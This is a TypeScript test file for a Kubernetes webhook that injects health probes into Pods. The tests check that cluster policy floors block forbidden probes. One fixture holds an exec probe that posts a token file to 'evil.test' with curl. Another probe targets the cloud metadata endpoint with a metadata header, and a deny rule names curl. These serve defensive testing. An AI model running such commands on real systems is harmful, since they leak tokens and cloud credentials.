import { describe, expect, it } from 'vitest';
import { guaranteedStartSeconds, probeTiming } from '../../../src/engine/probe/timing.ts';
import {
  appContainer,
  clusterPolicyDocument,
  containerNamed,
  mutation,
  pod,
  policyDocument,
  policySet,
} from '../../support/worlds.ts';
import type { JsonObject } from '../../../src/base/json/json-value.ts';

/** What the app container gets, and why it gets nothing else. */
function given(container: JsonObject, ...documents: JsonObject[]): { probes: string[]; reasons: string[] } {
  const { after, defaulting } = mutation(pod([container]), policySet(...documents));
  const probes = Object.keys(containerNamed(after, 'app')).filter((key) => key.endsWith('Probe'));
  const reasons = (defaulting?.notInjected ?? [])
    .filter(({ code }) => code === 'forbidden-by-floor')
    .map(({ probe, detail }) => `${probe ?? ''}: ${detail}`);
  return { probes, reasons };
}

const floor = (checks: Record<string, JsonObject>): JsonObject =>
  clusterPolicyDocument({
    checks: Object.fromEntries(
      Object.entries(checks).map(([id, more]) => [id, { action: 'Deny', floor: 'Deny', ...more }]),
    ),
  });
const exec = { readinessProbe: { exec: { command: ['curl', '-d', '@token', 'http://evil.test'] } } };

describe('a probe of a namespace policy that violates a floor', () => {
  it('is not injected, and the reason names check, cluster policy and value', () =>
    expect(
      given(appContainer(), floor({ 'exec-forbidden': { names: ['curl'] } }), policyDocument({ probes: exec })),
    ).toEqual({
      probes: [],
      reasons: [
        'readinessProbe: exec-forbidden, which ClusterProbePolicy/cluster sets with the floor Deny, forbids it: ' +
          'container "app" runs "curl" in its readinessProbe, which a policy forbids',
      ],
    }));

  it('is not injected whatever parameters the namespace sets', () => {
    const policy = policyDocument({
      probes: exec,
      checks: { 'exec-forbidden': { action: 'Off', names: ['nothing'] } },
    });
    expect(given(appContainer(), floor({ 'exec-forbidden': { names: ['curl'] } }), policy).probes).toEqual([]);
  });

  it('is not injected with a foreign host and headers', () => {
    const httpGet = {
      path: '/',
      port: 80,
      host: '169.254.169.254',
      httpHeaders: [{ name: 'Metadata', value: 'true' }],
    };
    const container = appContainer({ ports: [{ containerPort: 80 }] });
    const policy = policyDocument({ probes: { livenessProbe: { httpGet } } });
    expect(given(container, policy).probes).toContain('livenessProbe');
    expect(given(container, floor({ 'probe-host': {} }), policy).probes).toEqual([]);
  });

  it('takes nothing from the probes that violate none', () => {
    const policy = policyDocument({ probes: exec, kubernetesProbeEndpoints: { livenessProbe: '/live' } });
    expect(given(appContainer(), floor({ 'exec-forbidden': { names: ['curl'] } }), policy).probes).toEqual([
      'livenessProbe',
      'startupProbe',
    ]);
  });

  it('is injected where the floor is Warn, or only the action is Deny', () => {
    const warn = clusterPolicyDocument({ checks: { 'exec-forbidden': { floor: 'Warn', names: ['curl'] } } });
    const deny = clusterPolicyDocument({ checks: { 'exec-forbidden': { action: 'Deny', names: ['curl'] } } });
    for (const policy of [warn, deny])
      expect(given(appContainer(), policy, policyDocument({ probes: exec })).probes).toEqual(['readinessProbe']);
  });

  it('is not injected when it makes a probe of the author violate the floor', () => {
    const own = appContainer({ livenessProbe: { httpGet: { path: '/same', port: 'http' }, failureThreshold: 1 } });
    const policy = policyDocument({ kubernetesProbeEndpoints: { readinessProbe: '/same' } });
    expect(given(own, policy).probes).toEqual(['livenessProbe', 'readinessProbe']);
    const { probes, reasons } = given(own, floor({ 'shared-endpoint': {} }), policy);
    expect(probes).toEqual(['livenessProbe']);
    expect(reasons[0]).toMatch(/^readinessProbe: shared-endpoint, which ClusterProbePolicy\/cluster sets/);
  });

  it('that would protect a start takes the liveness probe with it', () => {
    const bounds = { 'probe-bounds': { startupProbe: { failureThreshold: { maximum: 3 } } } };
    const policy = policyDocument({ kubernetesProbeEndpoints: { livenessProbe: '/live' } });
    const { probes, reasons } = given(appContainer(), floor(bounds), policy);
    expect(probes).toEqual([]);
    expect(reasons[0]).toMatch(
      /^livenessProbe: probe-bounds, .* forbids the startupProbe that would protect its start$/,
    );
    expect(reasons[1]).toMatch(/^startupProbe: probe-bounds/);
  });

  it('of an annotation is not injected either', () => {
    const object = pod([appContainer()], {
      metadata: { annotations: { 'probewright.dev/liveness-endpoint': '/ready' } },
    });
    const policies = policySet(floor({ 'dependency-liveness': {} }));
    expect(mutation(object, policySet()).patch).toBeDefined();
    expect(mutation(object, policies).patch).toBeUndefined();
  });
});

describe('a probe that a floor requires', () => {
  const given = clusterPolicyDocument({
    containers: ['*'],
    kubernetesProbeEndpoints: { readinessProbe: '/up' },
    checks: { 'required-readiness': { action: 'Deny', floor: 'Deny', containers: 'all' } },
  });
  const strips = { containers: ['*'], probes: { readinessProbe: { disabled: true } } };

  it('is given by the policy of the cluster when the namespace takes it away', () =>
    expect(probesGiven(policyDocument(strips))).toEqual(['readinessProbe']));

  it('is given in Pods too, when the policy of the namespace selects a label that only Pods have', () => {
    const selector = { matchExpressions: [{ key: 'pod-template-hash', operator: 'Exists' }] };
    expect(probesGiven(policyDocument({ ...strips, workloadSelector: selector }))).toEqual(['readinessProbe']);
  });

  it('is given by the policy of the cluster when the handler of the namespace is forbidden', () => {
    const forbids = clusterPolicyDocument(
      { checks: { 'probe-handler': { floor: 'Deny', action: 'Deny', allowed: ['httpGet'] } } },
      'x',
    );
    const tcp = { containers: ['*'], probes: { readinessProbe: { tcpSocket: { port: 8080 } } } };
    expect(probesGiven(forbids, policyDocument(tcp))).toEqual(['readinessProbe']);
  });

  it('is left to the author who skips it', () => {
    const annotations = { 'probewright.dev/skip': 'readiness' };
    const { patch } = mutation(pod([appContainer()], { metadata: { annotations } }), policySet(given));
    expect(patch).toBeUndefined();
  });

  it.each<[string, JsonObject, JsonObject]>([
    [
      'liveness probe',
      {
        kubernetesProbeEndpoints: { livenessProbe: '/livez' },
        probes: { livenessProbe: { periodSeconds: 5, failureThreshold: 2 } },
        checks: { 'required-liveness': { action: 'Deny', floor: 'Deny' } },
      },
      {
        livenessProbe: { disabled: true },
        startupProbe: { httpGet: { path: '/st' }, periodSeconds: 30, failureThreshold: 10 },
      },
    ],
    [
      'startup probe',
      {
        kubernetesProbeEndpoints: { livenessProbe: '/livez', startupProbe: '/livez' },
        checks: { 'required-startup': { action: 'Deny', floor: 'Deny' } },
      },
      { startupProbe: { disabled: true }, livenessProbe: { periodSeconds: 2, failureThreshold: 2 } },
    ],
  ])('has numbers that are safe after a restart when the cluster gives the %s back', (_, cluster, probes) => {
    const policies = policySet(
      clusterPolicyDocument({ containers: ['*'], ...cluster }),
      policyDocument({ containers: ['*'], probes }),
    );
    const { after } = mutation(pod([appContainer()]), policies);
    const { livenessProbe, startupProbe } = containerNamed(after, 'app');
    const startup = probeTiming(startupProbe as JsonObject);
    expect(startup.periodSeconds).toBe(guaranteedStartSeconds(probeTiming(livenessProbe as JsonObject)));
    const asked = probeTiming((probes['startupProbe'] ?? {}) as JsonObject);
    expect(guaranteedStartSeconds(startup)).toBeGreaterThanOrEqual(guaranteedStartSeconds(asked));
    expect(mutation(after, policies).patch).toBeUndefined();
  });

  function probesGiven(...documents: JsonObject[]): string[] {
    const labels = { app: 'web', 'pod-template-hash': 'x' };
    const object = pod([appContainer()], { metadata: { labels } });
    const { after } = mutation(object, policySet(given, ...documents));
    expect(mutation(after, policySet(given, ...documents)).patch).toBeUndefined();
    return Object.keys(containerNamed(after, 'app')).filter((key) => key.endsWith('Probe'));
  }
});

it('a Pod that opts out of mutation is told so and gets nothing, also when a webhook is asked about it', () => {
  const labels = { 'probewright.dev/webhook': 'disabled' };
  const policies = policySet(policyDocument({ kubernetesProbeEndpoints: { livenessProbe: '/live' } }));
  const { patch, defaulting } = mutation(pod([appContainer()], { metadata: { labels } }), policies);
  expect(patch).toBeUndefined();
  expect(defaulting?.notInjected.map(({ code }) => code)).toEqual(['opted-out']);
});
